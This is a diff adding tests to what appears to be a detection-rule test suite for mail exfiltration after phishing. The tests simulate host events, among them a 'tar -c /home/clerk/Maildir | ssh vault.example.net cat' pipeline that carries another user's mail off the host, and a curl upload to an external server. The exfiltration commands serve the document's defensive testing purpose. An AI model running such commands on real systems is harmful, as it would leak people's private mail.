@@ -4,6 +4,7 @@ import { type Delivered, HostLog, MINUTE } from '../an0656-phishing-attachment-e
 import {
   atMostAt,
   factorsOf,
+  firesAt,
   recording,
   scanFolder,
   scanLog,
@@ -164,4 +165,27 @@ test("a person's own synchronisation of their own mail", async () => {
   const inbox = '/home/clerk/.thunderbird/x/Mail/Local Folders/Inbox';
   desktop.run('/usr/bin/nextcloud').connect('198.51.100.41', 443).read(inbox);
   atMostAt(await scanLog(log), 'informational');
+});
+
+test('own mail is packed onto a disk whose writes nobody records, and a talk is uploaded', async () => {
+  const log = new HostLog();
+  const { path } = log.deliver({ to: 'clerk' });
+  log.wait(MINUTE);
+  const shell = log.shell('clerk');
+  shell.run('/bin/tar -czf /mnt/disk/mail.tgz Maildir').read(path);
+  log.wait(MINUTE);
+  shell.run('/usr/bin/curl -s -T slides/talk.odp http://files.example.net/talks/').connect('203.0.113.80', 80);
+  shell.write('/home/clerk/.bash_history');
+  silent((await scanLog(log)).filter(alert => alert.analytic === 'AN1310'));
+});
+
+test('the notes of a tool that carries mail off are no place where it was staged', async () => {
+  const log = new HostLog();
+  const { path } = log.deliver({ to: 'clerk' });
+  log.wait(MINUTE);
+  const [tar, ssh] = log.shell('dev').pipeline('/bin/tar -c /home/clerk/Maildir', '/usr/bin/ssh vault.example.net cat');
+  tar?.read(path);
+  ssh?.connect('203.0.113.67', 22).write('/home/dev/.ssh/known_hosts');
+  const alert = firesAt(await scanLog(log), 'AN1310', 'medium');
+  assert.ok(!alert.story.includes('staged'), alert.story);
 });
